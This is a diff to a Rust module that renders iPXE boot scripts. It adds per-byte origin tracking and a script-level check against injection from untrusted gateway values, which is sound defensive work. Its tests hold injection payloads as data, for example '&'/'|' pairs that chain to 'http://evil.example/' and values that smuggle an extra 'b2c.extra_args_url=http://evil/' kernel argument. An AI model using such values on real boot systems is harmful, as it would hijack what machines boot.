@@ -1,9 +1,15 @@
 //! Boot script rendering.
 //!
 //! Templates use iPXE's own `${name}` syntax. Names we know are substituted; every other
-//! `${...}` (iPXE settings such as `${netX/mac}`) is left for iPXE to expand. Substituted values
-//! are checked so that none can end a line, start a comment, chain another command or smuggle a
-//! setting reference into the script.
+//! `${...}` (iPXE settings such as `${netX/mac}`) is left for iPXE to expand.
+//!
+//! Two layers of checks. Each value is checked alone when it is set (no line break, no setting
+//! reference, no `&&`/`||`/`#` word, and for values from gateway records no `"`). Then the
+//! rendered script itself is checked line by line ([`check_script`]), knowing which bytes came
+//! from the template, from our own variables and from gateway records, so that no combination
+//! of values can produce what no single value may: no control character, balanced quotes, no
+//! `&&`/`||` chaining or `#` comment that the template did not write, and no word boundary
+//! (a new kernel argument) that comes from a gateway's value.
 
 use std::collections::BTreeMap;
 
@@ -24,30 +30,60 @@ pub enum RenderError {
     UnsafeValue { name: String, reason: &'static str },
     #[error("template variable name {0:?} is not allowed")]
     BadVariableName(String),
+    #[error("rendered script line {line} is unsafe: {reason}")]
+    UnsafeScript { line: usize, reason: &'static str },
 }
 
-/// Values substituted into a template, by variable name.
+/// Where a byte of a rendered script came from.
+#[derive(Clone, Copy, Debug, PartialEq, Eq)]
+pub enum Origin {
+    /// The template (and the release's command line spliced into it): operator-written.
+    Template,
+    /// A value ipxe-edge computed itself (URLs, names, the secrets argument).
+    Own,
+    /// A value from a gateway record's `vars`: untrusted.
+    Gateway,
+}
+
+/// Values substituted into a template, by variable name, with where each came from.
 #[derive(Debug, Default, Clone)]
-pub struct Vars(BTreeMap<String, String>);
+pub struct Vars(BTreeMap<String, (String, Origin)>);
 
 impl Vars {
     pub fn new() -> Self {
         Vars::default()
     }
 
-    /// Adds a variable after checking that its value is safe inside an iPXE command line.
+    /// Adds a variable from a gateway record after checking that its value is safe inside an
+    /// iPXE command line; a `"` is refused, since it could re-quote the arguments around it.
     pub fn set(&mut self, name: &str, value: impl Into<String>) -> Result<(), RenderError> {
+        let value = value.into();
+        if value.contains('"') {
+            return Err(RenderError::UnsafeValue { name: name.to_string(), reason: "contains a double quote" });
+        }
+        self.insert(name, value, Origin::Gateway)
+    }
+
+    /// Adds a variable ipxe-edge computed itself; it may quote (`b2c.extra_args_url="…"`).
+    pub fn set_own(&mut self, name: &str, value: impl Into<String>) -> Result<(), RenderError> {
+        self.insert(name, value.into(), Origin::Own)
+    }
+
+    fn insert(&mut self, name: &str, value: String, origin: Origin) -> Result<(), RenderError> {
         if !valid_var_name(name) {
             return Err(RenderError::BadVariableName(name.to_string()));
         }
-        let value = value.into();
         check_value(name, &value)?;
-        self.0.insert(name.to_string(), value);
+        self.0.insert(name.to_string(), (value, origin));
         Ok(())
     }
 
     pub fn get(&self, name: &str) -> Option<&str> {
-        self.0.get(name).map(String::as_str)
+        self.0.get(name).map(|(v, _)| v.as_str())
+    }
+
+    fn get_with_origin(&self, name: &str) -> Option<(&str, Origin)> {
+        self.0.get(name).map(|(v, o)| (v.as_str(), *o))
     }
 }
 
@@ -100,38 +136,93 @@ pub fn check_template(template: &str) -> Result<(), RenderError> {
     Ok(())
 }
 
-/// Substitutes the known variables of `template`; unknown `${...}` pass through untouched.
+/// Substitutes the known variables of `template` (unknown `${...}` pass through untouched),
+/// then checks the whole script with [`check_script`].
 pub fn render(template: &str, vars: &Vars) -> Result<String, RenderError> {
+    let (out, origins) = render_with_origins(template, vars)?;
+    check_script(&out, &origins)?;
+    Ok(out)
+}
+
+/// The rendered script and the origin of each of its bytes.
+pub fn render_with_origins(template: &str, vars: &Vars) -> Result<(String, Vec<Origin>), RenderError> {
     check_template(template)?;
     let mut out = String::with_capacity(template.len() + 1024);
+    let mut origins = Vec::with_capacity(template.len() + 1024);
+    let mut push = |out: &mut String, text: &str, origin: Origin| {
+        out.push_str(text);
+        origins.extend(std::iter::repeat_n(origin, text.len()));
+    };
     let mut rest = template;
     while let Some(start) = rest.find("${") {
-        out.push_str(&rest[..start]);
+        push(&mut out, &rest[..start], Origin::Template);
         let after = &rest[start + 2..];
         match after.find('}') {
             Some(end) => {
                 let name = &after[..end];
-                match vars.get(name) {
-                    Some(value) => out.push_str(value),
-                    None => {
-                        out.push_str("${");
-                        out.push_str(name);
-                        out.push('}');
-                    }
+                match vars.get_with_origin(name) {
+                    Some((value, origin)) => push(&mut out, value, origin),
+                    None => push(&mut out, &rest[start..start + 2 + end + 1], Origin::Template),
                 }
                 rest = &after[end + 1..];
             }
             None => {
-                out.push_str(&rest[start..]);
+                push(&mut out, &rest[start..], Origin::Template);
                 rest = "";
             }
         }
     }
-    out.push_str(rest);
+    push(&mut out, rest, Origin::Template);
     if !out.ends_with('\n') {
-        out.push('\n');
+        push(&mut out, "\n", Origin::Template);
     }
-    Ok(out)
+    Ok((out, origins))
+}
+
+/// The invariant every script we answer satisfies, whatever the values: checked on the script
+/// itself, line by line, with the origin of each byte.
+pub fn check_script(script: &str, origins: &[Origin]) -> Result<(), RenderError> {
+    debug_assert_eq!(script.len(), origins.len());
+    let mut offset = 0;
+    for (index, line) in script.split_inclusive('\n').enumerate() {
+        let bad = |reason| Err(RenderError::UnsafeScript { line: index + 1, reason });
+        let body = line.strip_suffix('\n').unwrap_or(line);
+        let origin = &origins[offset..offset + body.len()];
+        offset += line.len();
+        if body.chars().any(|c| c.is_control()) {
+            return bad("control character");
+        }
+        if body.bytes().filter(|b| *b == b'"').count() % 2 != 0 {
+            return bad("unbalanced double quotes");
+        }
+        let mut start = 0;
+        for word in body.split(' ') {
+            let word_origin = &origin[start..start + word.len()];
+            let from_values = word_origin.iter().any(|o| *o != Origin::Template);
+            if from_values && (word == "&&" || word == "||") {
+                return bad("a value forms a command separator");
+            }
+            if from_values && word.starts_with('#') && !(index == 0 && word == "#!ipxe") {
+                return bad("a value forms a comment");
+            }
+            if from_values && word.contains("${") {
+                return bad("a value forms a setting reference");
+            }
+            start += word.len();
+            // The space after this word: a word boundary that only the template or our own
+            // values may create.
+            if start < body.len() {
+                if origin[start] == Origin::Gateway {
+                    return bad("a gateway value adds a word (a new argument)");
+                }
+                start += 1;
+            }
+        }
+        if origin.iter().zip(body.bytes()).any(|(o, b)| *o == Origin::Gateway && b == b'"') {
+            return bad("a gateway value holds a double quote");
+        }
+    }
+    Ok(())
 }
 
 #[cfg(test)]
@@ -141,9 +232,47 @@ mod tests {
     fn vars(pairs: &[(&str, &str)]) -> Vars {
         let mut v = Vars::new();
         for (k, val) in pairs {
-            v.set(k, *val).unwrap();
+            v.set_own(k, *val).unwrap();
         }
         v
+    }
+
+    #[test]
+    fn values_cannot_combine_into_what_none_may_be() {
+        // `${a}${b}` with "&" and "&": each value alone is harmless, together they chain.
+        let template = "#!ipxe\nkernel k console=ttyS0 ${a}${b} chain http://evil.example/\nboot\n";
+        for (a, b) in [("&", "&"), ("|", "|")] {
+            let mut v = Vars::new();
+            v.set("a", a).unwrap();
+            v.set("b", b).unwrap();
+            assert!(matches!(render(template, &v), Err(RenderError::UnsafeScript { line: 2, .. })), "{a:?} {b:?}");
+        }
+        // "$" + "{privkey}" cannot be set at all.
+        let mut v = Vars::new();
+        assert!(v.set("a", "$").is_err());
+        // A gateway value with a space would add a kernel argument.
+        let mut v = Vars::new();
+        v.set("a", "x b2c.extra_args_url=http://evil/").unwrap();
+        assert!(matches!(render("#!ipxe\nkernel k ${a}\n", &v), Err(RenderError::UnsafeScript { .. })));
+    }
+
+    #[test]
+    fn quotes_from_gateway_values_are_refused_and_lines_stay_balanced() {
+        let mut v = Vars::new();
+        assert!(v.set("a", "x\" b2c.extra_args_url=\"http://evil/").is_err());
+        // Our own values may quote, balanced.
+        v.set_own("secrets_arg", " b2c.extra_args_url=\"https://s/secrets/T\"").unwrap();
+        assert!(render("#!ipxe\nkernel k${secrets_arg}\n", &v).is_ok());
+        // A template with unbalanced quotes is refused as rendered.
+        assert!(matches!(render("#!ipxe\nkernel k a=\"b\n", &Vars::new()), Err(RenderError::UnsafeScript { line: 2, .. })));
+    }
+
+    #[test]
+    fn template_written_chaining_is_the_operators_choice() {
+        let mut v = Vars::new();
+        v.set("site", "lab-1").unwrap();
+        let out = render("#!ipxe\n:retry\nchain https://x/${site} || goto retry\n", &v).unwrap();
+        assert!(out.contains("lab-1 || goto retry"));
     }
 
     #[test]
@@ -163,7 +292,8 @@ mod tests {
 
     #[test]
     fn ipxe_variables_pass_through() {
-        let v = vars(&[("gateway", "gw1")]);
+        let mut v = Vars::new();
+        v.set("gateway", "gw1").unwrap();
         let out = render("#!ipxe\necho ${gateway} ${netX/mac} ${platform} ${unknown_thing} ${\n", &v).unwrap();
         assert_eq!(out, "#!ipxe\necho gw1 ${netX/mac} ${platform} ${unknown_thing} ${\n");
     }
